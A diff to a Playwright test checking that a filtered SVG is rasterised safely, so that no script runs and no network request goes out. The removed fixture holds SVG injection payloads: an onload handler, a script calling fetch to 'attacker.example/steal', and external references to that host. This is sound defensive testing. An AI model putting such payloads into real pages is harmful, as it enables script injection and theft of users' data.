@@ -6,17 +6,11 @@
  */
 import { expect, test } from '@playwright/test';
 import { call, ready } from '../support/tools';
+import { hostileFilteredSvg } from '../support/hostile-svg';
 
 test.use({ viewport: { width: 1400, height: 900 }, deviceScaleFactor: 1 });
 
-const FILTERED = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" viewBox="0 0 200 100" onload="window.attacked = true">
-  <script>window.attacked = true; fetch('https://attacker.example/steal');</script>
-  <defs><filter id="soft"><feGaussianBlur stdDeviation="1"/></filter></defs>
-  <rect x="0" y="0" width="100" height="100" fill="#ff0000"/>
-  <rect x="110" y="10" width="80" height="80" fill="#00ff00" filter="url(#soft)"/>
-  <image x="0" y="0" width="200" height="100" xlink:href="https://attacker.example/evil.png"/>
-  <use href="https://attacker.example/sprite.svg#icon"/>
-</svg>`;
+const FILTERED = hostileFilteredSvg({ onload: 'attacked', script: 'attacked' }, 'attacker.example');
 
 test('a filtered SVG is rasterised in the worker and drawn as an image; nothing runs or is requested', async ({ page }) => {
   const requests: string[] = [];
